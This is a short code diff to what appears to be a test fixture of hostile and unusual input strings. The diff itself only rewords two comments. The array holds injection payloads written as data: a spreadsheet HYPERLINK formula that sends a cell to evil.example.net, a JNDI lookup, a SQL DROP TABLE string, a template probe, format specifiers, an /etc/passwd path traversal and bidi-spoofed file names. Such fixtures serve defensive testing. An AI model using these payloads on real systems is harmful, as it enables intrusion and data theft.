@@ -1,4 +1,4 @@
-// Values that are rare, and values that somebody means harm with.
+// Rare values, and malicious ones.
 
 import { frame, frames } from "../encode.js";
 import { printed } from "./lines.js";
@@ -37,7 +37,7 @@ const HOSTILE = [
   "invoice-\u202efdp.exe is harmless \u2066\u2067 and so is sh\u200bop.example",
   "NUL \u0000 BEL \u0007 DEL \u007f C1 \u0085 LS \u2028 TAG \u{e0041}",
   '=HYPERLINK("https://evil.example.net/?"&A1,"report")',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder for whoever fills in placeholders.
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder that a careless logger would expand.
   "${jndi:ldap://evil.example.net/a} '; DROP TABLE logs; -- {{7*7}} %s%n ../../etc/passwd",
   `no blank: ${"0123456789abcdef".repeat(125)}`,
   "right to left: \u0634\u0643\u0631\u0627 (\u0663) \u05e9\u05dc\u05d5\u05dd [4] <b>",
